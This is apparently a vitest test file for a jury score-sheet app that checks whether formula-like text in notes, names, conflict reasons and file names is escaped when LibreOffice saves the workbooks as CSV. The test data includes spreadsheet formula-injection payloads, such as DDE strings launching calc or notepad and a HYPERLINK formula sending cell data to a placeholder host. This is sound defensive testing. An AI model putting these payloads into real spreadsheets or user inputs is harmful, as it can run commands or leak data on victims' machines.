/**
 * Issue 14, build item 9: text that a spreadsheet could take for a formula, in what a juror types (notes,
 * a declared conflict's reason, their name) and in a sheet's file name, written into the signed score
 * sheet and the Rekapitulasi, then saved as CSV by LibreOffice (every sheet, as `soffice --convert-to csv`
 * does with sheet -1): no CSV cell may start with =, +, -, @, a tab or a line break, so that opening the CSV
 * runs nothing. The score sheet still verifies `valid`, before and after a LibreOffice re-save, and the
 * signed payload keeps the text as typed.
 * Needs LibreOffice (apt-get install -y libreoffice-calc-nogui); missing, the tests fail with that message.
 */
import { execFile } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Event } from '../../src/core/model.ts';
import { main } from '../../src/cli/main.ts';
import { deliberateFiles } from '../../src/cli/commands/sheet-files.ts';
import { readDemoEvent } from '../../src/services/events/event-file.ts';
import { demoFiles } from '../../src/services/demo/demo-files.ts';
import { demoScores } from '../../src/services/demo/demo-scores.ts';
import { writeRekapitulasi } from '../../src/services/merge/rekapitulasi.ts';
import { verifyScoreSheet, writeScoreSheet, type VerifyContext } from '../../src/services/sheets/score-sheet.ts';
import { sheetPayload } from '../../src/services/sheets/sheet-export.ts';
import { sectionSheetNames } from '../../src/services/sheets/sheet-layout.ts';
import type { SheetPayload } from '../../src/services/sheets/sheet-payload.ts';
import { RESOURCES_DIR, tempDir } from '../support/demo.ts';
import { loadWorkbook } from '../support/sheets.ts';

const run = promisify(execFile);
// LibreOffice's first start in a fresh profile takes a while, more so on a busy machine.
const TIMEOUT = 240_000;
/** Comma, double quote, UTF-8, from line 1, …, contents as shown, no formulas, every sheet to its own file (-1). */
const CSV_FILTER = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1';

const CALC = `=cmd|' /C calc'!A0`;
const NOTES: Record<string, string> = {
  'ukm-01': CALC,
  'ukm-02': `+SUM(1)+cmd|' /C calc'!A0`,
  'ukm-03': `-2+3+cmd|' /C notepad'!A0`,
  'ukm-04': '\t=1+1',
  'manufaktur-01': '\r\n=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
  'manufaktur-02': '-', // a dash for "nothing to add": cannot become a formula, left as it is
};
const DECLARED = { nomineeId: 'ukm-05', reason: '@SUM(1)' };
const JUROR_NAME = '@Maria Tefa';
/** A sheet's file name is the sender's to choose (without the "/", which no file name holds). */
const HOSTILE_FILE = `=cmd|' -C calc'!A0.xlsx`;

/** RFC 4180 as LibreOffice writes it: fields in double quotes when they hold a comma, quote or line break. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      if (c === '\r') i++;
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += c;
  }
  if (field !== '' || row.length > 0) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}

/** A CSV cell that a spreadsheet opening the CSV would take for a formula; a plain number or a lone dash is none. */
const startsLikeFormula = (cell: string) => /^[=+@\t\r\n]/.test(cell) || (cell.startsWith('-') && !/^-+$|^-\d+([.,]\d+)?$/.test(cell));

/** The CSV files LibreOffice wrote for one workbook, by sheet name: "rekap-Verifikasi.csv" → Verifikasi (no base name starts another). */
function csvSheets(dir: string, file: string): Map<string, string[][]> {
  const base = basename(file, '.xlsx');
  const sheets = new Map<string, string[][]>();
  for (const name of readdirSync(dir)) {
    if (name.startsWith(`${base}-`) && name.endsWith('.csv'))
      sheets.set(name.slice(base.length + 1, -4), parseCsv(readFileSync(join(dir, name), 'utf8')));
  }
  return sheets;
}

function formulaCells(sheets: Map<string, string[][]>): string[] {
  return [...sheets].flatMap(([sheet, rows]) =>
    rows.flatMap((row, r) =>
      row.flatMap((cell, c) => (startsLikeFormula(cell) ? [`${sheet} row ${r + 1} column ${c + 1}: ${JSON.stringify(cell)}`] : [])),
    ),
  );
}

const cellsOf = (sheets: Map<string, string[][]>) => [...sheets.values()].flat(2);

describe('formula-like text saved as CSV by LibreOffice', () => {
  const work = tempDir('timbang-csv-injection-');
  const files: Record<'sheet' | 'rekap' | 'legacy', string> = {
    sheet: join(work.dir, 'J4.xlsx'),
    rekap: join(work.dir, 'rekap.xlsx'),
    legacy: join(work.dir, 'lama.xlsx'),
  };
  let event: Event;
  let payload: SheetPayload;
  let context: VerifyContext;

  beforeAll(async () => {
    event = readDemoEvent(RESOURCES_DIR);
    const demo = await demoFiles(event);
    const key = demo.jurorKeys.get('J4')!;
    // J4's sheet as the app exports it: the demo marks, the notes and the declared conflict typed on the laptop.
    const conflicts = new Map(event.conflicts.filter((c) => c.jurorId === 'J4').map((c) => [c.nomineeId, c.reason]));
    conflicts.set(DECLARED.nomineeId, DECLARED.reason);
    payload = sheetPayload({
      event,
      jurorId: 'J4',
      jurorName: JUROR_NAME,
      roundIds: event.rounds.map((r) => r.id),
      marks: demoScores(event).marks.filter((m) => m.jurorId === 'J4' && m.nomineeId !== DECLARED.nomineeId),
      notes: Object.entries(NOTES).map(([nomineeId, text]) => ({ roundId: 'administrasi', nomineeId, text })),
      conflicts,
      declaredConflicts: [DECLARED],
      isFinalized: () => true,
      packageRevision: 1,
      sheetRevision: 1,
      exportedAt: new Date().toISOString(),
      key,
    });
    writeFileSync(files.sheet, await writeScoreSheet(payload, key));
    context = { event, latestPackageRevision: 1, jurorKeys: new Map([...demo.jurorKeys].map(([id, k]) => [id, k.publicKey])) };

    // `timbang merge --out`, with J4's sheet under a file name that is itself a formula.
    const packageFile = join(work.dir, 'event.timbang');
    writeFileSync(packageFile, demo.packageText);
    const sheetFiles = [...demo.sheets].map(([jurorId, bytes]) => {
      const file = join(work.dir, jurorId === 'J4' ? HOSTILE_FILE : `${jurorId}.xlsx`);
      writeFileSync(file, jurorId === 'J4' ? readFileSync(files.sheet) : bytes);
      return file;
    });
    const out: string[] = [];
    const code = await main(['merge', '--event', packageFile, '--out', files.rekap, ...sheetFiles], {
      out: (l) => out.push(l),
      err: (l) => out.push(l),
    });
    expect(code, out.join('\n')).toBe(0);

    // An event stored before its names were checked (or a package from an older Timbang): its names go through
    // the same escape when the Rekapitulasi is written.
    const { summary, rekap } = await deliberateFiles(packageFile, sheetFiles, null);
    const legacy: Event = { ...event, name: `+${event.name}` };
    summary.categories[0].name = `-${summary.categories[0].name}`;
    summary.categories[0].ranking[0].name = CALC;
    summary.categories[0].ranking[1].name = '@SUM(1)';
    writeFileSync(files.legacy, await writeRekapitulasi(legacy, summary, rekap));
  }, TIMEOUT);
  afterAll(() => work.remove());

  /** LibreOffice conversions, one at a time, in a profile of their own. */
  let queue: Promise<unknown> = Promise.resolve();
  const conversions = new Map<string, Promise<string>>();
  function convert(filter: string, inputs: string[]): Promise<string> {
    const key = `${filter} ${inputs.join(' ')}`;
    if (!conversions.has(key)) {
      const job = queue.then(async () => {
        try {
          await run('soffice', ['--version'], { timeout: 60_000 });
        } catch {
          throw new Error('LibreOffice (soffice) is not installed; install it with: apt-get install -y libreoffice-calc-nogui');
        }
        const out = join(work.dir, `out-${conversions.size}`);
        mkdirSync(out, { recursive: true });
        const profile = pathToFileURL(join(work.dir, 'profile')).href;
        await run('soffice', [`-env:UserInstallation=${profile}`, '--headless', '--convert-to', filter, '--outdir', out, ...inputs], {
          timeout: TIMEOUT,
        });
        return out;
      });
      queue = job.catch(() => undefined);
      conversions.set(key, job);
    }
    return conversions.get(key)!;
  }
  const toCsv = () => convert(CSV_FILTER, Object.values(files));

  it('the score sheet: verifies valid, keeps the text as typed in its payload, and shows it escaped', async () => {
    const result = await verifyScoreSheet(readFileSync(files.sheet), 'J4.xlsx', context);
    expect(result.status, result.details.map((d) => d.en).join('\n')).toBe('valid');
    expect(result.payload).toEqual(payload);
    const ukm = result.payload!.sections.find((s) => s.roundId === 'administrasi' && s.categoryId === 'ukm')!;
    expect(ukm.nominees.find((n) => n.nomineeId === 'ukm-01')!.note).toBe(CALC);
    expect(result.payload!.declaredConflicts).toEqual([DECLARED]);

    const workbook = await loadWorkbook(readFileSync(files.sheet));
    const section = workbook.getWorksheet('1-ukm')!;
    const noteColumn = 5 + ukm.criteria.length + 1;
    expect(section.getCell(7, noteColumn).value).toBe(`'${CALC}`);
    expect(section.getCell(8, noteColumn).value).toBe(`'${NOTES['ukm-02']}`);
    expect(section.getCell(9, noteColumn).value).toBe(`'${NOTES['ukm-03']}`);
    expect(section.getCell(10, noteColumn).value).toBe(`'${NOTES['ukm-04']}`);
    expect(section.getCell(7, noteColumn).formula).toBeUndefined();
    const cover = workbook.getWorksheet('Sampul')!;
    const name = cover.getColumn(2).values.find((v) => typeof v === 'string' && v.includes('Maria'));
    expect(name).toBe(`'${JUROR_NAME}`);
  });

  it(
    'the score sheet as CSV: the notes, the reason and the name are text, no cell starts like a formula',
    async () => {
      const sheets = csvSheets(await toCsv(), files.sheet);
      expect([...sheets.keys()].sort()).toEqual(['Sampul', ...sectionSheetNames(payload), 'Tanda tangan'].sort());
      // The hidden carrier holds the payload as JSON and the key and signature in base64: checked by verification, not shown.
      const { 'Tanda tangan': carrier, ...visible } = Object.fromEntries(sheets);
      expect(carrier[0]).toEqual(['Format', 'timbang.sheet-signature/1']);
      expect(formulaCells(new Map(Object.entries(visible)))).toEqual([]);
      const cells = cellsOf(new Map(Object.entries(visible)));
      for (const note of Object.values(NOTES).filter((n) => n !== '-')) expect(cells).toContain(`'${note.replace('\r\n', '\n')}`);
      expect(cells).toContain('-');
      expect(cells).toContain(`'${JUROR_NAME}`);
      expect(cells.some((cell) => cell.endsWith(`(${DECLARED.nomineeId}): ${DECLARED.reason} — dinyatakan oleh juri`))).toBe(true);
      expect(cells).toContain(`Tidak menilai — benturan kepentingan: ${DECLARED.reason}`);
    },
    TIMEOUT,
  );

  it(
    'the score sheet re-saved by LibreOffice still verifies valid, the escaped text kept',
    async () => {
      const saved = await convert('xlsx', [files.sheet, files.rekap]);
      const bytes = readFileSync(join(saved, 'J4.xlsx'));
      const result = await verifyScoreSheet(bytes, 'J4.xlsx', context);
      expect(result.status, result.details.map((d) => d.en).join('\n')).toBe('valid');
      expect(result.payload).toEqual(payload);
      const section = (await loadWorkbook(bytes)).getWorksheet('1-ukm')!;
      expect(section.getCell(7, 10).value).toBe(`'${CALC}`);
    },
    TIMEOUT,
  );

  it(
    'the Rekapitulasi as CSV: the file name and the reason are text, no cell starts like a formula',
    async () => {
      const sheets = csvSheets(await toCsv(), files.rekap);
      expect(sheets.has('Verifikasi')).toBe(true);
      expect(formulaCells(sheets)).toEqual([]);
      const cells = cellsOf(sheets);
      expect(cells).toContain(`'${HOSTILE_FILE}`);
      expect(cells.some((cell) => cell.includes(`J4: ${DECLARED.reason} (dinyatakan juri)`))).toBe(true);

      // Re-saved by LibreOffice, the workbook keeps the escaped text.
      const saved = await convert('xlsx', [files.sheet, files.rekap]);
      const verification = (await loadWorkbook(readFileSync(join(saved, 'rekap.xlsx')))).getWorksheet('Verifikasi')!;
      const names = verification
        .getColumn(1)
        .values.map((v) => (typeof v === 'object' && v !== null && 'richText' in v ? v.richText.map((p) => p.text).join('') : v));
      expect(names).toContain(`'${HOSTILE_FILE}`);
    },
    TIMEOUT,
  );

  it(
    'the Rekapitulasi of an event with formula-like names, as an older Timbang stored them: escaped as well',
    async () => {
      const sheets = csvSheets(await toCsv(), files.legacy);
      expect(formulaCells(sheets)).toEqual([]);
      const cells = cellsOf(sheets);
      expect(cells).toContain(`'${CALC}`);
      expect(cells).toContain(`'@SUM(1)`);
    },
    TIMEOUT,
  );
});
